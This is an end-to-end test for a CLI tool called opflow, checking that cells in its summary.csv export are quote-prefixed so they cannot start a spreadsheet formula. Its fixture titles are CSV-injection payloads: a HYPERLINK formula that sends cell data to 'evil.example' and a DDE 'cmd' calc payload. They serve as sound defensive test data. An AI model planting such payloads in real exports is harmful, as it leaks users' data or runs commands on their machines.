/**
 * No cell of summary.csv starts a formula (OWASP's CSV injection guidance): through the real bin, a
 * manifest whose titles start with =, +, -, @, a tab or a carriage return is ingested on the built-in
 * sandbox, and every such cell of summary.csv is read back (with csv-parse) prefixed with a quote.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { childEnv, killRunningOpflows, runOpflow } from '../local/opflow-process';

const titles = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1,2)',
  '\tindented',
  '\rreturn',
];

describe('summary.csv never starts a formula', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'opflow-e2e-csv-'));
  });
  afterAll(() => {
    killRunningOpflows();
    rmSync(dir, { recursive: true, force: true });
  });

  it('prefixes every cell that would start with =, +, -, @, a tab or a carriage return with a quote', async () => {
    const lines = titles.map((title, index) =>
      JSON.stringify({ id: index === 0 ? '=1+1' : `d${index}`, query: `TTL:(lamp ${index})`, title }),
    );
    writeFileSync(join(dir, 'hostile.jsonl'), `${lines.join('\n')}\n`);
    const env = childEnv({
      OPFLOW_SANDBOX_SPEED: '300',
      OPFLOW_DB: join(dir, 'jobs.db'),
      OPFLOW_OUT: join(dir, 'out'),
    });
    const run = await runOpflow(
      ['ingest', 'hostile.jsonl', '--workflow', 'patent-count', '--batch', 'hostile'],
      {
        env,
        cwd: dir,
      },
    );
    expect(run.code, run.stderr).toBe(0);
    const text = readFileSync(join(dir, 'out', 'batches', 'hostile', 'summary.csv'), 'utf8');
    const rows: Record<string, string>[] = parse(text, { columns: true, relax_quotes: true });
    // A title's leading tab or carriage return is trimmed by the workflow's input schema already.
    expect(rows.map((row) => row.title)).toEqual([
      ...titles.slice(0, 4).map((title) => `'${title}`),
      'indented',
      'return',
    ]);
    expect(rows[0]!.id).toBe("'=1+1");
    for (const row of rows)
      for (const [column, cell] of Object.entries(row))
        expect(/^[=+\-@\t\r]/.test(cell), `${column}: ${JSON.stringify(cell)}`).toBe(false);
  }, 180_000);
});
